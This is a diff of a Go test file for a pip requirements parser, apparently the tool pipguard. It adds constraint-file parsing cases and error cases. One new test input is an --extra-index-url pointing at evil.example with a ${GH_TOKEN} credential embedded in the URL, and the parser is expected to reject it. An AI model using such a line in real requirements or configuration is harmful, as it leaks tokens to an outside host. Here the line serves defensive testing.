@@ -23,6 +23,10 @@ func write(t *testing.T, dir, name, body string) string {
 func TestParseFile(t *testing.T) {
 	dir := t.TempDir()
 	write(t, dir, "sub/more.txt", "requests>=2 ; python_version >= \"3.8\"  # pinned elsewhere\n-c constraints.txt\n")
+	// A constraints file as pip reads it: its options are global, its
+	// requirements constrain, and a -r in it names requirements.
+	write(t, dir, "sub/constraints.txt", "--find-links ./wheels\nurllib3<3\n-r extra.txt\n")
+	write(t, dir, "sub/extra.txt", "six==1.16\n")
 	main := write(t, dir, "requirements.txt", `# guarded and plain requirements
 --index-url https://pypi.example/simple
 --no-index
@@ -41,19 +45,21 @@ attrs==23.1.0 --hash=sha256:aaaa --hash sha256:bbbb
 		switch {
 		case e.Option != nil:
 			kinds = append(kinds, strings.Join(e.Option, " "))
+		case e.Constraint:
+			kinds = append(kinds, "constraint:"+e.Req.Name)
 		default:
 			kinds = append(kinds, string(e.Req.Kind)+":"+e.Req.Name)
 		}
 	}
 	want := []string{"--index-url https://pypi.example/simple", "--no-index", "vcs:demo", "index:requests",
-		"-c " + filepath.Join(dir, "sub", "constraints.txt"), "index:attrs"}
+		"--find-links ./wheels", "constraint:urllib3", "index:six", "index:attrs"}
 	if strings.Join(kinds, "|") != strings.Join(want, "|") {
 		t.Errorf("got  %q\nwant %q", kinds, want)
 	}
 	if es[2].Line != 4 || es[2].Req.Marker != `python_version >= "3.8"` || es[2].Req.Kind != requirement.KindVCS {
 		t.Errorf("continuation: %+v", es[2])
 	}
-	if h := es[5].Hashes(); len(h) != 2 || h[1] != "sha256:bbbb" {
+	if h := es[7].Hashes(); len(h) != 2 || h[1] != "sha256:bbbb" {
 		t.Errorf("hashes %v", h)
 	}
 }
@@ -61,14 +67,17 @@ attrs==23.1.0 --hash=sha256:aaaa --hash sha256:bbbb
 func TestParseFileErrors(t *testing.T) {
 	dir := t.TempDir()
 	write(t, dir, "loop.txt", "-r loop.txt\n")
+	write(t, dir, "bad-constraints.txt", "demo @ git+https://h/o/r@v1\n")
 	for body, msg := range map[string]string{
 		"-r loop.txt":                   "includes itself",
 		"-e git+https://h/o/r@v1#egg=x": "editable git install",
 		"-e ./local":                    "editable installs",
 		"--frobnicate":                  `unknown or unsupported option "--frobnicate"`,
-		"demo @ git+https://h/o/r@":     "empty ref after @",
-		"ok==1 --install-option=x":      "unsupported per-requirement option",
-		"-r missing.txt":                "no such file",
+		"--extra-index-url https://u:${GH_TOKEN}@evil.example/simple": "refers to ${GH_TOKEN}: pipguard never hands a GitHub token",
+		"-c bad-constraints.txt":    "a constraint must be a name with a version specifier, not a URL",
+		"demo @ git+https://h/o/r@": "empty ref after @",
+		"ok==1 --install-option=x":  "unsupported per-requirement option",
+		"-r missing.txt":            "no such file",
 	} {
 		p := write(t, dir, "r.txt", "# first line\n"+body+"\n")
 		_, err := ParseFile(p)
@@ -76,7 +85,7 @@ func TestParseFileErrors(t *testing.T) {
 			t.Errorf("%q: err = %v, want %q", body, err, msg)
 		}
 		var e *Error
-		if errors.As(err, &e) && e.Line != 2 && !strings.Contains(msg, "itself") {
+		if errors.As(err, &e) && e.Line != 2 && !strings.Contains(msg, "itself") && !strings.Contains(msg, "constraint") {
 			t.Errorf("%q: line %d", body, e.Line)
 		}
 	}
